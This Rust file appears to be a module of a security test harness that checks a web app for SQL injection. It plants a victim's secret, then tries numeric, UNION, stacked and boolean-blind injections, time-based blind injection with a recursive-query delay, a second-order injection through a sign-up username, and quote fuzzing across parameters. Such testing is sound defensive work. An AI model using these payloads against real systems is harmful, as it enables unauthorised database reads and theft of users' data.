//! `sql-injection`: numbers, quotes, names and waits by which a query says more than it was asked.

use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use http::StatusCode;
use testkit::Visitor;

use super::Outcome;
use super::member::{address, join, keep};
use crate::{Person, Target};

/// What the victim keeps, which nobody else has.
const SECRET: &str = "combination-4711";

/// A query that takes a while wherever its text is read.
const WAIT: &str =
    "(WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM n WHERE x<1500000) SELECT count(*) FROM n)";

/// Half of the wait is enough to be told apart from none.
const TOLD: Duration = Duration::from_millis(40);

/// Asks for the note whose number is `1 OR 1=1`, a list, a sum, or another query.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn number_that_is_a_condition(target: &Target) -> Result<Outcome> {
    let mut thief = robbed(target).await?;
    let mut found = Vec::new();
    for number in [
        "0 OR 1=1",
        "0 UNION SELECT body FROM vault_note",
        "(SELECT min(id) FROM vault_note)",
        "1;SELECT body FROM vault_note",
        "0 OR owner='valerie'",
    ] {
        for page in ["", "edit/"] {
            let path = format!("/secret/{}/{page}", encoded(number));
            if thief.open(&path).await?.text().contains(SECRET) {
                found.push(path);
            }
        }
    }
    Ok(Outcome::new(
        !found.is_empty(),
        format!("the secret is shown at {found:?}"),
    ))
}

/// Searches with a condition on another's secret, and reads the answer off whether anything is found.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn truth_by_what_is_found(target: &Target) -> Result<Outcome> {
    let mut thief = robbed(target).await?;
    keep(&mut thief, "harmless", "x").await?;
    let mut answers = Vec::new();
    for guess in ["combination-4", "combination-5"] {
        let words = format!(
            "harmless%' AND EXISTS(SELECT 1 FROM vault_note WHERE body LIKE '{guess}%') AND 'a' LIKE 'a"
        );
        let page = thief.open(&format!("/?q={}", encoded(&words))).await?;
        let list = page.text().replace(&words, "");
        answers.push((
            page.status,
            list.contains("<li>harmless") || list.contains(">harmless<"),
        ));
    }
    ensure!(
        thief.open("/?q=harmless").await?.text().contains(">harmless<"),
        "the search finds nothing at all"
    );
    Ok(Outcome::new(
        answers.first() != answers.last(),
        format!("found for each guess: {answers:?}"),
    ))
}

/// Searches and sorts with a condition that makes the database work for a while when it holds, and reads the answer off a watch.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn truth_by_the_wait(target: &Target) -> Result<Outcome> {
    let mut thief = robbed(target).await?;
    keep(&mut thief, "harmless", "x").await?;
    let words = |guess: &str| {
        let held = format!("EXISTS(SELECT 1 FROM vault_note WHERE body LIKE '{guess}%')");
        let searched = format!("harmless%' AND (CASE WHEN {held} THEN {WAIT} ELSE 1 END)>0 --");
        let sorted = format!("(CASE WHEN {held} THEN {WAIT} ELSE 1 END)");
        [
            format!("/?q={}", encoded(&searched)),
            format!("/?sort={}", encoded(&sorted)),
        ]
    };
    let mut told = Vec::new();
    for (right, wrong) in words("combination-4").into_iter().zip(words("combination-5")) {
        // The quickest of three, so that a busy machine is not taken for an answer.
        let (mut with, mut without) = (Duration::MAX, Duration::MAX);
        for _ in 0..3 {
            with = with.min(watched(&mut thief, &right).await?);
            without = without.min(watched(&mut thief, &wrong).await?);
        }
        told.push(with.saturating_sub(without));
    }
    Ok(Outcome::new(
        told.iter().any(|more| *more > TOLD),
        format!("a right guess takes longer by {told:?}"),
    ))
}

/// Signs up under a name, and writes a title, that break a query which reads them again later.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn name_that_breaks_a_later_query(target: &Target) -> Result<Outcome> {
    let broken = Person {
        username: "x' OR '1'='1",
        password: Person::ATTACKER.password,
    };
    robbed(target).await?;
    let mut thief = target.visitor()?;
    let email = address(Person::ATTACKER);
    let fields = [
        ("username", broken.username),
        ("email", email.as_str()),
        ("password1", broken.password),
        ("password2", broken.password),
    ];
    let signed_up = thief.submit("/signup/", &fields).await?;
    if signed_up.status.is_server_error() {
        return Ok(Outcome::new(
            true,
            format!("the name was answered with {}", signed_up.status),
        ));
    }
    let login = [("username", broken.username), ("password", broken.password)];
    thief.submit("/login/", &login).await?;
    let page = thief.open("/?q=s").await?;
    let read = page.text().contains("safe of valerie");
    Ok(Outcome::new(
        read,
        format!(
            "the sign-up was answered with {}, the list with {}",
            signed_up.status, page.status
        ),
    ))
}

/// Puts a quote wherever text is taken, and waits for the database to complain.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn quote_everywhere(target: &Target) -> Result<Outcome> {
    let mut thief = robbed(target).await?;
    let quote = encoded("'\"`;--\\");
    let mut complaints = Vec::new();
    for path in [
        format!("/?q={quote}"),
        format!("/?sort={quote}"),
        format!("/?q=a&sort={quote}&page={quote}"),
        format!("/secret/{quote}/"),
        format!("/shared/?page={quote}"),
        format!("/documents/{quote}/"),
        format!("/login/?next={quote}"),
    ] {
        let reply = thief.open(&path).await?;
        let text = reply.text().to_lowercase();
        let said = ["syntax error", "sqlite", "unrecognized token", "sql"]
            .iter()
            .find(|word| text.contains(**word));
        if reply.status == StatusCode::INTERNAL_SERVER_ERROR || said.is_some() {
            complaints.push((path, reply.status, said));
        }
    }
    Ok(Outcome::new(!complaints.is_empty(), format!("{complaints:?}")))
}

/// A victim with a secret, and somebody else who is logged in.
async fn robbed(target: &Target) -> Result<Visitor> {
    let mut victim = join(target, Person::VICTIM).await?;
    let page = keep(&mut victim, "safe of valerie", SECRET).await?;
    ensure!(page.contains(SECRET), "the secret is not kept");
    join(target, Person::ATTACKER).await
}

async fn watched(visitor: &mut Visitor, path: &str) -> Result<Duration> {
    let begun = Instant::now();
    visitor.open(path).await?;
    Ok(begun.elapsed())
}

fn encoded(text: &str) -> String {
    let form = testkit::visitor::form(&[("", text)]);
    form.trim_start_matches('=').to_owned()
}
